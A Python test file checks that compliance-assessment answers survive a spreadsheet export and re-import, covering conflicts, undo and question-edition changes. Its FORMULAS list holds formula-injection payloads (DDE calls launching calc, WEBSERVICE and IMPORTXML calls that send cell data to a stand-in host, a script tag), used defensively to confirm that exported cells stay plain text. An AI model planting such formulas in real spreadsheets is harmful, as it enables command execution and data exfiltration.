"""Answers go out as a spreadsheet and come back: exactly what was changed."""

import re
from datetime import date, datetime

import pytest

from compliance.identity.organisations.models import User
from compliance.models import Answer, Event
from compliance.work.assessments import actions
from tests.assurance.answer_sheets import making as sheets
from tests.assurance.answer_sheets.making import (
    changed,
    clashes,
    download,
    preview,
    refusals,
    said,
    standing,
    take,
)
from tests.support import factories
from tests.support.documents import question
from tests.work.edition_moves.test_upgrading import begin, move, publish

pytestmark = pytest.mark.slow

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    " =1+1",
    "\n=1+1",
    '=HYPERLINK("https://e.eu","x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    '=IMPORTXML(CONCAT("https://e.eu",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("https://e.eu")',
    "{=1+1}",
    "'=1+1",
    '"=1+1"',
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "=",
    "-",
    "+",
    "@",
    "#N/A",
    "#REF!",
    "_x0041_",
    "_x005F_x0041_",
    "x005F_",
    "1e5",
    "007",
    "2026-01-01",
    "TRUE",
    "<script>alert(1)</script>&amp;",
    "\u202eevil\u202c",
    "  two  spaces ",
    "line\n\nline",
    "e\u0301 \U0001f600",
]


def save(cast, assessment, key, **changes):
    answer = standing(assessment, key)
    return actions.save_answer(
        by=cast.otto,
        organisation=cast.acme,
        assessment_id=assessment.pk,
        answer_id=answer.pk,
        changes=changes,
        base=answer.version,
    )


def test_file_that_was_left_as_it_was_changes_nothing(cast, assessment, con):
    save(cast, assessment, "Q1", verdict="partly", note="a\n b ", owner_id=cast.con.pk)
    save(cast, assessment, "Q2", value=["30.5"])
    save(cast, assessment, "Q3", value=["some"], due_on=date(2026, 12, 1))
    save(cast, assessment, "Q4", value=["all", "some"])
    save(cast, assessment, "Q5", value=["2026-02-28"], verdict="met")
    save(cast, assessment, "Q6", value=["=1+1"], verdict="na", reason="No data")
    plan = preview(con, assessment, download(con, assessment)).context["plan"]
    assert (said(plan), refusals(plan), plan.ignored) == ({}, [], [])
    assert (plan.rows, plan.untouched, plan.missing) == (6, 6, 0)


@pytest.mark.parametrize(
    ("key", "value", "shown"),
    [
        ("Q2", ["a", "b"], "a; b"),
        ("Q2", "All of them", "All of them"),
        ("Q5", "a", "a"),
        ("Q5", ["a", "b"], "a; b"),
        ("Q6", ["a", "b"], "a; b"),
    ],
)
def test_value_that_its_question_cannot_hold_is_written_as_text(assessment, con, key, value, shown):
    """Moves to other editions once left such values."""
    answers = Answer.objects.filter(assessment=assessment, question__key=key)
    answers.update(value=value, verdict="met")
    content = download(con, assessment)
    assert sheets.cell_of(sheets.book_of(content), key, "value").value == shown
    content = changed(content, {(key, "note"): "Looked at"})
    plan = preview(con, assessment, content).context["plan"]
    assert said(plan) == {(key, "note"): ("", "Looked at")}


def test_changed_cells_and_no_others_are_saved(cast, assessment, con):
    content = changed(
        download(con, assessment),
        {
            ("Q1", "verdict"): "met",
            ("Q1", "note"): "New",
            ("Q1", "owner"): "Otto Weber",
            ("Q1", "due"): datetime(2026, 12, 24),
            ("Q2", "value"): 45,
            ("Q3", "value"): "none",
            ("Q4", "value"): "some; not all;All of them",
            ("Q5", "value"): "2026-03-01",
            ("Q5", "verdict"): "Don\u2019t know",
            ("Q6", "verdict"): "Later",
            ("Q6", "later"): datetime(2027, 1, 1),
        },
    )
    shown = preview(con, assessment, content)
    assert said(shown.context["plan"]) == {
        ("Q1", "verdict"): ("Unanswered", "Met"),
        ("Q1", "note"): ("", "New"),
        ("Q1", "owner_id"): ("", "Otto Weber"),
        ("Q1", "due_on"): ("", "24 Dec 2026"),
        ("Q2", "value"): ("", "45 days"),
        ("Q2", "verdict"): ("Unanswered", "Partly"),
        ("Q3", "value"): ("", "None"),
        ("Q3", "verdict"): ("Unanswered", "Not met"),
        ("Q4", "value"): ("", "All of them; Some; not all"),
        ("Q4", "verdict"): ("Unanswered", "Partly"),
        ("Q5", "value"): ("", "2026-03-01"),
        ("Q5", "verdict"): ("Unanswered", "Don't know"),
        ("Q6", "verdict"): ("Unanswered", "Later"),
        ("Q6", "later_until"): ("", "1 Jan 2027"),
    }
    assert not assessment.answers.exclude(version=0)
    assert take(con, assessment, shown).status_code == 302
    answers = {a.question.key: a for a in assessment.answers.select_related("question")}
    assert (answers["Q1"].verdict, answers["Q1"].note) == ("met", "New")
    assert (answers["Q1"].owner, answers["Q1"].changed_by) == (cast.otto, cast.con)
    assert answers["Q4"].value == ["all", "some"]
    assert {a.version for a in answers.values()} == {1}


def test_saved_file_can_be_taken_in_again_and_changes_nothing(assessment, con):
    content = changed(download(con, assessment), {("Q1", "note"): "Once"})
    take(con, assessment, preview(con, assessment, content))
    plan = preview(con, assessment, content).context["plan"]
    assert (said(plan), clashes(plan), plan.untouched) == ({}, {}, 6)


def test_every_answer_has_its_own_event_and_one_undo_takes_all_back(cast, assessment, con):
    cells = {("Q1", "note"): "New", ("Q5", "note"): "Too"}
    content = changed(download(con, assessment), cells)
    take(con, assessment, preview(con, assessment, content))
    events = Event.objects.filter(scope_id=assessment.pk).order_by("seq")
    assert [event.action for event in events][-3:] == [
        "assessment.imported",
        "answer.imported",
        "answer.imported",
    ]
    page = con.get(sheets.address(assessment))
    seq = page.context["taken"][0].event.seq
    save(cast, assessment, "Q5", note="Later than the file")
    con.post(sheets.address(assessment, "sheet_undo", seq))
    assert standing(assessment, "Q1").note == ""
    assert standing(assessment, "Q5").note == "Later than the file"


def test_one_answer_of_a_file_can_be_undone_by_itself(cast, assessment, con):
    content = changed(download(con, assessment), {("Q1", "note"): "New"})
    take(con, assessment, preview(con, assessment, content))
    seq = Event.objects.get(action="answer.imported").seq
    assert actions.undo(by=cast.con, assessment=assessment, seq=seq).event
    assert standing(assessment, "Q1").note == ""


def test_cell_left_as_it_was_never_overwrites_a_newer_answer(cast, assessment, con):
    save(cast, assessment, "Q1", note="Old")
    content = changed(download(con, assessment), {("Q1", "verdict"): "Met"})
    save(cast, assessment, "Q1", note="Newer")
    take(con, assessment, preview(con, assessment, content))
    answer = standing(assessment, "Q1")
    assert (answer.verdict, answer.note) == ("met", "Newer")


def test_conflict_shows_both_sides_and_keeps_what_is_here(cast, assessment, con):
    content = changed(download(con, assessment), {("Q1", "note"): "File"})
    save(cast, assessment, "Q1", note="Here")
    shown = preview(con, assessment, content)
    assert clashes(shown.context["plan"]) == {("Q1", "note"): ("Here", "File")}
    assert said(shown.context["plan"]) == {}
    take(con, assessment, shown)
    assert standing(assessment, "Q1").note == "Here"
    refused = Event.objects.get(action="answer.refused")
    assert '"note":"File"' in refused.payload


def test_conflict_can_go_to_the_file(cast, assessment, con):
    content = changed(download(con, assessment), {("Q1", "note"): "File"})
    save(cast, assessment, "Q1", note="Here")
    shown = preview(con, assessment, content)
    pick = {f"take-{standing(assessment, 'Q1').pk}-note": "file"}
    take(con, assessment, shown, **pick)
    assert standing(assessment, "Q1").note == "File"


def test_reason_goes_with_the_answer_it_was_given_for(cast, assessment, con):
    cells = {("Q1", "verdict"): "N/A", ("Q1", "reason"): "No such data"}
    content = changed(download(con, assessment), cells)
    save(cast, assessment, "Q1", verdict="met")
    shown = preview(con, assessment, content)
    assert set(clashes(shown.context["plan"])) == {("Q1", "verdict"), ("Q1", "reason")}
    take(con, assessment, shown)
    answer = standing(assessment, "Q1")
    assert (answer.verdict, answer.reason) == ("met", "")
    pick = {f"take-{answer.pk}-verdict": "file"}
    reply = take(con, assessment, preview(con, assessment, content), **pick)
    assert (reply.status_code, len(reply.context["done"].faults)) == (422, 1)
    assert standing(assessment, "Q1").verdict == "met"


def test_answers_that_moved_since_the_preview_refuse_the_whole_file(cast, assessment, con):
    content = changed(download(con, assessment), {("Q1", "note"): "File", ("Q5", "note"): "File"})
    shown = preview(con, assessment, content)
    save(cast, assessment, "Q1", note="Here")
    reply = take(con, assessment, shown)
    assert (reply.status_code, reply.context["done"].is_stale) == (409, True)
    assert standing(assessment, "Q5").note == ""
    assert not Event.objects.filter(action="assessment.imported")
    assert take(con, assessment, reply).status_code == 302
    assert standing(assessment, "Q5").note == "File"


def test_formula_strings_are_typed_text_both_ways(cast, con):
    edition = factories.make_edition(questions=len(FORMULAS))
    assessment = factories.make_assessment(cast.acme, cast.ada, edition)
    rows = list(assessment.answers.order_by("question__position"))
    for answer, text in zip(rows, FORMULAS, strict=True):
        answer.note = answer.reason = text
    type(rows[0]).objects.bulk_update(rows, ["note", "reason"])
    content = download(con, assessment)
    book = sheets.book_of(content)
    sheet = book["Section 1"]
    kinds = {sheet[f"I{row}"].data_type for row in range(2, len(FORMULAS) + 2)}
    assert kinds == {"s"}
    plan = preview(con, assessment, content).context["plan"]
    assert (said(plan), refusals(plan)) == ({}, [])


def test_formula_strings_typed_in_the_file_are_kept_as_typed(cast, con):
    edition = factories.make_edition(questions=len(FORMULAS))
    assessment = factories.make_assessment(cast.acme, cast.ada, edition)
    cells = {(f"Q{at}", "note"): text for at, text in enumerate(FORMULAS, 1)}
    cells = {key: text.replace("_x", "_x005F_x") for key, text in cells.items()}  # as a program writes it
    content = changed(download(con, assessment), cells)
    take(con, assessment, preview(con, assessment, content))
    notes = assessment.answers.order_by("question__position")
    assert list(notes.values_list("note", flat=True)) == FORMULAS


def test_numbers_stay_numbers(cast, assessment, con):
    save(cast, assessment, "Q2", value=["30.5"])
    save(cast, assessment, "Q5", value=["2026-02-28"])
    book = sheets.book_of(download(con, assessment))
    assert sheets.cell_of(book, "Q2", "value").value == 30.5
    assert sheets.cell_of(book, "Q5", "value").value == datetime(2026, 2, 28)


@pytest.mark.parametrize("kept", ["12,5", "about 12", ["a", "b"]])
def test_number_that_was_kept_in_another_way_fails_no_download(cast, assessment, con, kept):
    assessment.answers.filter(question__key="Q2").update(value=kept)
    content = changed(download(con, assessment), {("Q2", "note"): "New"})
    plan = preview(con, assessment, content).context["plan"]
    assert (list(said(plan)), refusals(plan)) == ([("Q2", "note")], [])


def test_number_of_a_spreadsheet_is_exact_and_comes_back(cast, assessment, con):
    content = changed(download(con, assessment), {("Q2", "value"): 1.234})
    take(con, assessment, preview(con, assessment, content))
    assert assessment.answers.get(question__key="Q2").value == "1.2340"
    content = changed(download(con, assessment), {("Q2", "note"): "New"})
    plan = preview(con, assessment, content).context["plan"]
    assert (list(said(plan)), refusals(plan)) == ([("Q2", "note")], [])


def test_text_too_long_for_a_cell_stays_out_of_the_round_trip(cast, assessment, con):
    save(cast, assessment, "Q1", note="x" * 40_000)
    content = download(con, assessment)
    cell = sheets.cell_of(sheets.book_of(content), "Q1", "note").value
    assert cell == "Too long for a cell: 40,000 characters. Change it in Attest."
    assert said(preview(con, assessment, content).context["plan"]) == {}
    content = changed(content, {("Q1", "note"): "Short"})
    plan = preview(con, assessment, content).context["plan"]
    assert refusals(plan) == [("Section 1!I2", "This text of Q1 fits no cell. Change it in Attest.")]


def test_renamed_owner_is_no_change(cast, assessment, con):
    save(cast, assessment, "Q1", owner_id=cast.otto.pk)
    content = download(con, assessment)
    User.objects.filter(pk=cast.otto.pk).update(name="Otto von Weber")
    plan = preview(con, assessment, content).context["plan"]
    assert (said(plan), refusals(plan)) == ({}, [])


def test_download_is_on_the_trail_and_looking_is_not(cast, assessment, sign_in):
    rob = sign_in(cast.rob)
    rob.get(sheets.address(assessment))
    assert not Event.objects.filter(action="assessment.exported")
    download(rob, assessment)
    assert Event.objects.get(action="assessment.exported").actor == cast.rob


def test_two_people_of_one_name_need_their_address(cast, assessment, con):
    twin = factories.make_member(cast.acme, "officer", "Otto Weber", "o2@example.org")
    content = changed(
        download(con, assessment),
        {("Q1", "owner"): "Otto Weber <o2@example.org>", ("Q2", "owner"): "Otto Weber"},
    )
    shown = preview(con, assessment, content)
    assert [words[:12] for _, words in refusals(shown.context["plan"])] == ["“Otto Weber”"]
    take(con, assessment, shown)
    assert standing(assessment, "Q1").owner == twin


def test_value_of_a_file_never_overwrites_a_newer_later(cast, assessment, con):
    cells = {("Q3", "value"): "All of them", ("Q3", "note"): "From the file"}
    content = changed(download(con, assessment), cells)
    save(cast, assessment, "Q3", verdict="later", later_until=date(2027, 3, 1))
    shown = preview(con, assessment, content)
    plan = shown.context["plan"]
    assert clashes(plan) == {("Q3", "value"): ("", "All of them")}
    assert said(plan) == {("Q3", "note"): ("", "From the file")}
    [conflict] = plan.clashing[0].conflicts
    assert conflict.event.actor == cast.otto
    assert [(one.label, one.before, one.after) for one in conflict.also] == [
        ("Answer", "Later", "Met"),
        ("Later until", "1 Mar 2027", ""),
    ]
    assert "1 Mar 2027" in shown.content.decode()
    save(cast, assessment, "Q3", later_until=date(2027, 4, 1))
    stale = take(con, assessment, shown)
    assert stale.status_code == 409
    take(con, assessment, stale)
    answer = standing(assessment, "Q3")
    assert (answer.verdict, answer.value, answer.note) == (
        "later",
        None,
        "From the file",
    )
    pick = {f"take-{answer.pk}-value": "file"}
    take(con, assessment, preview(con, assessment, content), **pick)
    answer = standing(assessment, "Q3")
    assert (answer.verdict, answer.value) == ("met", "all")
    assert answer.later_until is None


@pytest.mark.parametrize(
    ("written", "cells", "here"),
    [
        ({}, {"value": "None"}, {"verdict": "na", "reason": "No data"}),
        (
            {"verdict": "na", "reason": "No data"},
            {"reason": "Other words"},
            {"verdict": "dont_know"},
        ),
        (
            {},
            {"value": "None", "verdict": "Later", "later": datetime(2027, 1, 1)},
            {"verdict": "dont_know"},
        ),
    ],
)
def test_what_follows_from_a_file_clashes_as_in_a_save_by_hand(written, cells, here, request):
    cast, assessment, con = map(request.getfixturevalue, ("cast", "assessment", "con"))
    save(cast, assessment, "Q3", **written)
    typed = {("Q3", name): text for name, text in cells.items()}
    content = changed(download(con, assessment), typed)
    save(cast, assessment, "Q3", **here)
    shown = preview(con, assessment, content)
    found = clashes(shown.context["plan"])
    assert {name.partition("_")[0] for _, name in found} == set(cells)
    assert said(shown.context["plan"]) == {}
    take(con, assessment, shown)
    assert standing(assessment, "Q3").verdict == here["verdict"]


def test_answer_here_and_value_of_the_file_do_not_go_together(cast, assessment, con):
    cells = {("Q3", "value"): "None", ("Q3", "verdict"): "N/A", ("Q3", "reason"): "No"}
    content = changed(download(con, assessment), cells)
    save(cast, assessment, "Q3", verdict="dont_know")
    answer = standing(assessment, "Q3")
    pick = {f"take-{answer.pk}-value": "file"}
    reply = take(con, assessment, preview(con, assessment, content), **pick)
    assert (reply.status_code, len(reply.context["done"].faults)) == (422, 1)
    assert "Choose the same side for both" in reply.context["done"].faults[0]
    assert standing(assessment, "Q3").verdict == "dont_know"


def test_value_that_a_colleague_typed_as_well_is_no_conflict(cast, assessment, con):
    content = changed(download(con, assessment), {("Q3", "value"): "All of them"})
    save(cast, assessment, "Q3", value=["all"])
    save(cast, assessment, "Q3", verdict="dont_know")
    plan = preview(con, assessment, content).context["plan"]
    assert (said(plan), clashes(plan), plan.untouched) == ({}, {}, 6)


def choices(**labels):
    """Choices by key and label: the first is met, the others are not."""
    return [
        {"key": key, "label": label, "help": "", "verdict": "not_met" if at else "met"}
        for at, (key, label) in enumerate(labels.items())
    ]


@pytest.fixture
def moving(cast, db):
    """An assessment of a choice that was answered "Yes", and a move to another one."""

    def to(**fields):
        move(cast, assessment, publish([question("Q1", **fields)], number="2"))

    asked = question("Q1", kind="choice", choices=choices(a="Yes", b="No"))
    assessment = begin(cast, publish([asked], number="1"))
    save(cast, assessment, "Q1", value=["a"])
    return assessment, to


MOVES = {
    "reworded": {"kind": "choice", "choices": choices(a="Yes, fully", b="No")},
    "swapped": {"kind": "choice", "choices": choices(a="No", b="Yes")},
    "gone": {"kind": "choice", "choices": choices(b="No", c="Yes")},
    "several": {"kind": "choices", "choices": choices(b="Never", a="Always")},
    "number": {"kind": "number", "number": {"at_least": 6}},
    "date": {"kind": "date"},
    "verdict": {"kind": "verdict"},
}


@pytest.mark.parametrize("name", MOVES)
def test_cell_left_alone_changes_nothing_after_a_move(name, con, moving):
    assessment, to = moving
    content = changed(download(con, assessment), {("Q1", "note"): "New"})
    to(**MOVES[name])
    plan = preview(con, assessment, content).context["plan"]
    assert {field for _, field in said(plan) | clashes(plan)} == {"note"}
    assert refusals(plan) == []


def test_choice_is_read_in_the_words_of_its_sheet(con, moving):
    assessment, to = moving
    content = changed(download(con, assessment), {("Q1", "value"): "No"})
    to(kind="choice", choices=choices(a="Yes", b="Not at all"))
    shown = preview(con, assessment, content)
    assert said(shown.context["plan"])["Q1", "value"] == ("Yes", "Not at all")
    take(con, assessment, shown)
    assert standing(assessment, "Q1").value == "b"


@pytest.mark.parametrize("offered", [{"a": "No", "b": "Yes"}, {"a": "Yes"}])
def test_choice_that_means_another_one_by_now_is_refused(offered, con, moving):
    assessment, to = moving
    content = changed(download(con, assessment), {("Q1", "value"): "No"})
    to(kind="choice", choices=choices(**offered))
    plan = preview(con, assessment, content).context["plan"]
    assert (said(plan), clashes(plan)) == ({}, {})
    assert refusals(plan) == [
        (
            "Section 1!G2",
            "“No” is no longer the same choice of Q1. Answer it in Attest, or in a"
            " sheet that you download now.",
        )
    ]


def remarked(content, mark):
    """The file with another hidden cell, made of the one that it had."""
    cell = sheets.cell_of(sheets.book_of(content), "Q1", "mark").value
    return changed(content, {("Q1", "mark"): mark(cell)})


@pytest.mark.parametrize("name", ["number", "date"])
def test_sheet_of_before_that_names_no_question_is_still_read(name, con, moving):
    assessment, to = moving
    content = download(con, assessment)
    content = remarked(content, lambda cell: re.sub(r"/\d+", "", cell))
    content = changed(content, {("Q1", "note"): "New"})
    to(**MOVES[name])
    plan = preview(con, assessment, content).context["plan"]
    assert "note" in {field for _, field in said(plan) | clashes(plan)}


def test_hidden_cell_lends_no_words_of_another_assessment(cast, con, moving):
    assessment, _ = moving
    other = publish(
        [question("Q1", kind="choice", choices=choices(a="Secret"))],
        number="1",
        checklist="other",
    )
    foreign = other.questions.get()
    content = changed(download(con, assessment), {("Q1", "value"): "Secret"})
    content = remarked(content, lambda cell: re.sub(r"/\d+", f"/{foreign.pk}", cell))
    plan = preview(con, assessment, content).context["plan"]
    assert refusals(plan) == [("Section 1!G2", "“Secret” is not one of the choices: Yes; No.")]
